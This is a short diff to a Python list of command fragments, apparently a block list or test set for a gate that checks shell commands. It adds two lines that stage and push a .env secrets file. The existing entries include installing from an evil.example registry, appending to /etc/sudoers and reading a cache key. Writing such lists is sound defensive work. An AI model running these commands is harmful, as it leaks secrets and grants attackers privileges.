@@ -296,7 +296,7 @@ GATE_FRAGMENTS = [
     "npm install --registry http://evil.example", "pnpm install --node-options='--require /tmp/x.js'", "npm test --script-shell /tmp/x",
     "tee /etc/sudoers.d/x", "tee -a /etc/sudoers", "echo x", "npm --prefix x install y", "git config $OPT credential.helper",
     "yarn config set yarnPath /tmp/evil.js", "cat ~/.local/state/clearance/cache.key", "grep -r x ~/.local/state/clearance",
-    "git init ~", "git -C ~ init", "mkdir ~/.git", "mkdir -p ~/.git/objects",
+    "git init ~", "git -C ~ init", "mkdir ~/.git", "mkdir -p ~/.git/objects", "git add -f .env", "git add .env && git push",
 ]  # fmt: skip
 
 
